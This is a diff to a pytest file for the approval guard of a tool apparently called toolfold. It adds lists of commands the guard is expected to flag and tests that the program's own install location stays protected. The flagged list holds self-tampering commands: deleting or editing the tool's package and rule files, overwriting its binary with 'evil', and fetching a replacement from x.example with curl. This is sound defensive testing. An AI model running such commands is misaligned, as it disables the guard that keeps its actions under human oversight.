@@ -6,12 +6,15 @@ from pathlib import Path
 
 import pytest
 
+import toolfold
 from toolfold.approval.building import build_approval
+from toolfold.approval.places.program import program_places
 from toolfold.approval.station import Approval, Preview
 from toolfold.config import load
 from toolfold.loops import Loops
 
 HOME = "/home/u"
+PACKAGE = Path(toolfold.__file__).parent
 
 GUARDED = r"""
 toolfold config set approval.mode off
@@ -174,6 +177,34 @@ TOOLFOLD_APPROVAL__DENY= toolfold call x
 TOOLFOLD_PLUGINS__FOLDER=/tmp/x toolfold tools list
 XDG_CONFIG_HOME=/tmp/x toolfold call x
 export TOOLFOLD_HOME=/tmp/x; toolfold call x
+sed -i s/a/b/ /opt/x/lib/python3.12/site-packages/toolfold/provenance.py
+sed -i s/a/b/ {package}/provenance.py
+rm {package}/approval/rules/effects.toml
+rm -rf {package}
+mv {package} /tmp/old
+cd {package} && sed -i s/a/b/ provenance.py
+rm .venv/lib/python3.12/site-packages/toolfold/approval/rules/effects.toml
+rm -r .venv/lib/python3.12/site-packages/toolfold-0.1.0.dist-info
+cp evil .venv/bin/toolfold
+echo x > ~/.local/bin/toolfold
+ln -sf /tmp/x ~/.local/bin/toolfold
+curl -o ~/.local/bin/toolfold https://x.example/y
+uv pip install --python ~/.local/share/uv/tools/toolfold evil
+~/.local/share/uv/tools/toolfold/bin/python -m pip install evil
+rm -rf ~/.local/share/uv/tools/toolfold
+pipx inject toolfold evil
+pipx upgrade toolfold
+pipx uninstall toolfold
+pip install -U toolfold
+pip3 install 'toolfold<0.1'
+python -m pip uninstall -y toolfold
+pip install ./dist/toolfold-9.9-py3-none-any.whl
+uv tool install toolfold
+uv tool install --force toolfold==0.0.1
+uv tool upgrade toolfold
+uv tool upgrade --all
+uv tool uninstall toolfold
+uv pip install -U toolfold
 """.strip().splitlines()
 
 LEAVING = r"""
@@ -216,13 +247,22 @@ docker run -v $PWD:/app node npm test
 docker run -v .:/app node npm test
 docker run -v ~/.m2:/root/.m2 maven mvn test
 docker run -v data:/var/lib/x postgres
+pip show toolfold
+pip install -e .
+uv pip install --python .venv pytest
+cat {package}/provenance.py
+grep -rn x .venv/lib/python3.12/site-packages/toolfold
+.venv/bin/toolfold doctor
+ls -l ~/.local/bin/toolfold
+rm -rf src/toolfold/__pycache__
+cp build/tool ~/.local/bin/tool
 """.strip().splitlines()
 
 
 def judged(command: str, tmp_path: Path, mode: str) -> Preview:
     config = load(project=tmp_path, env={"HOME": HOME}, overrides={"approval.mode": mode})
     approval: Approval = build_approval(config, Loops())
-    return approval.preview(command.replace("\\n", "\n"))
+    return approval.preview(command.replace("\\n", "\n").replace("{package}", str(PACKAGE)))
 
 
 @pytest.fixture(autouse=True)
@@ -247,3 +287,21 @@ def test_commands_that_leave_the_runtimes_sight_are_asked_about(command: str, tm
 @pytest.mark.parametrize("command", HARMLESS)
 def test_harmless_neighbours_run_unasked(command: str, tmp_path: Path) -> None:
     assert judged(command, tmp_path, "manual").runs_unasked
+
+
+def test_the_program_is_not_guarded_in_the_checkout_it_runs_from(tmp_path: Path) -> None:
+    package = tmp_path / "src" / "toolfold"
+    package.mkdir(parents=True)
+    assert program_places(tmp_path, package, tmp_path / ".venv") == []
+    assert package in program_places(tmp_path / "other", package, tmp_path / ".venv")
+
+
+def test_a_folder_named_like_the_checkout_does_not_switch_the_guard_off(tmp_path: Path) -> None:
+    (tmp_path / "src" / "toolfold").mkdir(parents=True)
+    assert not judged("rm {package}/provenance.py", tmp_path, "off").runs_unasked
+
+
+def test_an_environment_made_for_the_program_is_guarded_as_a_whole(tmp_path: Path) -> None:
+    environment = tmp_path / "tools" / "toolfold"
+    package = environment / "lib" / "toolfold"
+    assert environment in program_places(tmp_path / "project", package, environment)
